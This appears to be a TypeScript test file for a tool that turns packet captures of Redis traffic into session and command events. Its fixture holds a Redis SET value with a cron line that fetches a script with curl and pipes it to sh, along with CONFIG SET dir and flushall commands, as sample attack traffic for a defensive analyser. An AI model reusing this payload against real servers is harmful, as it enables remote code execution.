import { describe, expect, test } from 'vitest';
import { importBytes } from './imports/in-memory.ts';
import type { CaptureForm, Sent } from './imports/packets.ts';
import { capture, FLAG } from './imports/packets.ts';

const TIME = 1_700_000_000_250;
const CRON = '\n\n*/2 * * * * root curl -fsSL http://203.0.113.9/init.sh | sh\n\n';
const request = (...words: readonly string[]): string =>
  `*${words.length}\r\n${words.map((word) => `$${word.length}\r\n${word}\r\n`).join('')}`;
const SET = request('SET', 'x', CRON);
const hello: readonly Sent[] = [
  { from: 'visitor', flags: FLAG.syn, time: TIME },
  { from: 'server', flags: FLAG.synAck, time: TIME },
];
const visitor = (data: string, at = 0, time = TIME + 10): Sent => ({ from: 'visitor', data, at, time });
const server = (data: string, at = 0): Sent => ({ from: 'server', data, at, time: TIME + 20 });
const bye: readonly Sent[] = [
  { from: 'visitor', flags: FLAG.fin, at: 5_000, time: TIME + 1_000 },
  { from: 'server', flags: FLAG.fin, at: 5_000, time: TIME + 1_000 },
];

describe('a packet capture', () => {
  const forms: readonly CaptureForm[] = [
    {},
    { little: false },
    { nanos: true },
    { little: false, nanos: true },
    { ng: true },
    { ng: true, little: false },
    { ipv6: true },
    { ethernet: false },
    { ng: true, ipv6: true, ethernet: false },
    { port: 6400 },
  ];
  test.for(forms)('of the form %j becomes a session with its acts', async (form) => {
    const file = capture([...hello, visitor(SET), server('+OK\r\n'), ...bye], form);

    const seen = await importBytes('pcap', file, 11, form.port);

    expect(seen.report).toMatchObject({ units: 6, broken: 0, notRedis: 0 });
    expect(seen.acts.map(({ act, time }) => [act.type, time - TIME])).toEqual([
      ['session.opened', 0],
      ['redis.command', 10],
      ['redis.value', 10],
      ['session.closed', 1_000],
    ]);
    const address = form.ipv6 === true ? '2001:db8::5' : '203.0.113.5';
    expect(seen.acts[0]?.origin.peer).toEqual({ address, port: 40_000 });
    expect(seen.of('redis.value')[0]?.value).toBe(CRON);
    expect(seen.of('session.closed')[0]).toMatchObject({
      reason: 'visitor',
      bytesIn: SET.length,
      bytesOut: 5,
    });
  });

  test('is put in order, and what was sent twice is said once', async () => {
    const pieces = [0, 7, 30, 60].map((at, index, all) => visitor(SET.slice(at, all[index + 1]), at));
    const [a, b, c, d] = pieces as [Sent, Sent, Sent, Sent];

    const seen = await importBytes(
      'pcap',
      capture([...hello, b, d, a, a, visitor(SET.slice(5, 40), 5), c, ...bye]),
    );

    expect(seen.of('redis.value').map(({ value }) => value)).toEqual([CRON]);
    expect(seen.report.broken).toBe(0);
  });

  test('pairs replies with requests, long and nested ones too', async () => {
    const requests = [
      'PING\r\n',
      request('GET', 'x'),
      request('KEYS', '*'),
      request('CONFIG', 'SET', 'dir', '/x'),
      request('GET', 'y'),
    ];
    const replies = [
      '+PONG\r\n',
      `$9\r\n-ERR no\r\n\r\n`,
      '*2\r\n$1\r\na\r\n*1\r\n:1\r\n',
      '-ERR no such folder\r\n',
    ];

    const seen = await importBytes(
      'pcap',
      capture([...hello, visitor(requests.join('')), server(replies.join('')), ...bye]),
    );

    expect(seen.of('redis.command').map(({ name, reply }) => `${name} ${reply}`)).toEqual([
      'ping ok',
      'get ok',
      'keys ok',
      'config|set error',
      'get none',
    ]);
    expect(seen.of('redis.command')[3]?.error).toBe('ERR no such folder');
    expect(seen.of('redis.setting')[0]?.accepted).toBe(false);
  });

  test('tells broken frames and other protocols as faults', async () => {
    const broken = await importBytes(
      'pcap',
      capture([...hello, visitor('*1\r\n!'), visitor('\r\n', 5), ...bye]),
    );
    const tls = await importBytes(
      'pcap',
      capture([...hello, visitor('\u0016\u0003\u0001\u0000\u0005\nset\n'), ...bye]),
    );

    expect(broken.of('wire.fault')[0]).toMatchObject({ fault: "expected '$', got '!'" });
    expect(tls.of('wire.fault')[0]).toMatchObject({ looksLike: 'tls' });
    expect(tls.of('redis.command')).toEqual([]);
  });

  test('makes no commands of what it joins in the middle, and goes on behind what is missing', async () => {
    const torn = 'flushall\r\nsave\r\n';
    const joined = await importBytes('pcap', capture([visitor(torn), visitor(SET, torn.length)]));
    const holed = await importBytes(
      'pcap',
      capture([
        ...hello,
        visitor(SET.slice(0, 20)),
        visitor(torn, 90),
        visitor(SET, 90 + torn.length),
        ...bye,
      ]),
    );

    for (const seen of [joined, holed]) {
      expect(seen.of('redis.command').map(({ name }) => name)).toEqual(['set']);
    }
    expect(holed.report.places[0]?.why).toContain('bytes of the visitor are missing');
  });

  test('of other traffic, or cut off, is counted', async () => {
    const file = capture([...hello, visitor(SET), ...bye]);

    const other = await importBytes('pcap', file, 65_536, 7_000);
    const cut = await importBytes('pcap', file.subarray(0, -100));

    expect(other.report).toMatchObject({ notRedis: 5, units: 5 });
    expect(cut.report.places[0]?.why).toBe('the file ends within a packet');
    expect(cut.of('redis.value')).toHaveLength(1);
  });
});
